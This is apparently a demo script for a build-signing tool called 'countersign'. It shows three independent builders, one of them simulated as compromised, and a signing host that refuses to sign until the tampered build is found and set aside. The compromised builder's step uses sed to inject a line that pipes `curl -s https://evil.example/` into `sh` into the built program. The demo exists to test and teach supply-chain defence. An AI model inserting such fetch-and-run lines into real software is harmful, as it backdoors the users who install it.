# Three builders of one source, one of them compromised, and what the signing host makes of that.

start source m1 m2 m3 signing-host/inbox signing-host/set-aside
set_up_signing_host

say 'Three builders that have nothing in common. Each makes a build key for itself, and only the public half leaves it.'
for builder in m1 m2 m3; do
    at "$builder"
    run countersign build-key -o "$builder.key"
    cp "$builder.key.pub" ../signing-host/
done

say 'An operator approves one build of greet 1.0: two of the three must have built the same, each under its own key.'
at signing-host
run countersign grant greet 1.0 --builder m1=m1.key.pub --builder m2=m2.key.pub --builder m3=m3.key.pub --quorum 2 \
    --artifact 'greet-1.0*' --valid-for 2h
for builder in m1 m2 m3; do cp greet-1.0.grant.json "../$builder/"; done
[[ -z $token ]] || run countersign key check

say 'The source, and how it is built: the same bytes on every machine, whenever it is done.'
at source
printf '#!/bin/sh\necho "greet @VERSION@ says hello, ${1:-world}"\n' >greet.in
cat >build <<'END'
#!/bin/sh
set -eu
mkdir dist
sed 's/@VERSION@/1.0/' source/greet.in >dist/greet-1.0
tar --sort=name --mtime=@0 --owner=0 --group=0 --numeric-owner --mode=a=rX,u+w -c source | gzip -n >dist/greet-1.0.tar.gz
END
run cat greet.in
run cat build

say 'The first builder fetches the source, builds it and attests it.'
at m1
run cp -r ../source .
run sh source/build
run countersign attest --key m1.key --grant greet-1.0.grant.json dist/*

say 'The second does the same, but it is compromised: one line of the program is another when it is attested.'
at m2
run cp -r ../source .
run sh source/build
run sed -i '2s,^,curl -s https://evil.example/ | sh; ,' dist/greet-1.0
run countersign attest --key m2.key --grant greet-1.0.grant.json dist/*

say 'The signing host fetches both, each into a folder of its name. Both signatures are good, and nothing is signed.'
at signing-host
run cp -r ../m1/dist inbox/m1
run cp -r ../m2/dist inbox/m2
refused 'builders differ in artifact `greet-1.0`' \
    countersign sign greet-1.0.grant.json --from inbox -o ../location/inbox/greet-1.0

say 'The third builder is done. Two against one settles nothing: as long as one differs, nothing is signed.'
at m3
run cp -r ../source .
run sh source/build
run countersign attest --key m3.key --grant greet-1.0.grant.json dist/*
at signing-host
run cp -r ../m3/dist inbox/m3
refused 'builders differ in artifact `greet-1.0`' \
    countersign sign greet-1.0.grant.json --from inbox -o ../location/inbox/greet-1.0

say 'The log keeps both refusals, and has no signature after that of the certificate: the token was not asked for one.'
run countersign log list
[[ -z $token ]] || run countersign key check

say 'A person finds out who is right: where do they differ, and in what?'
run countersign grants diff greet-1.0.grant.json --from inbox
! run diff inbox/m1/greet-1.0 inbox/m2/greet-1.0 || broken 'the backdoor is gone'
run cmp inbox/m1/greet-1.0 inbox/m3/greet-1.0

say 'It is a backdoor. What the second builder made is set aside for whoever looks into that; the other two agree.'
run mv inbox/m2 set-aside/
run countersign sign greet-1.0.grant.json --from inbox -o ../location/inbox/greet-1.0
run countersign grants list

publish_and_check greet-1.0

say "Done: gpgv, sqv and sha256sum agree, on what m1 and m3 built. Everything is in $root for a look."
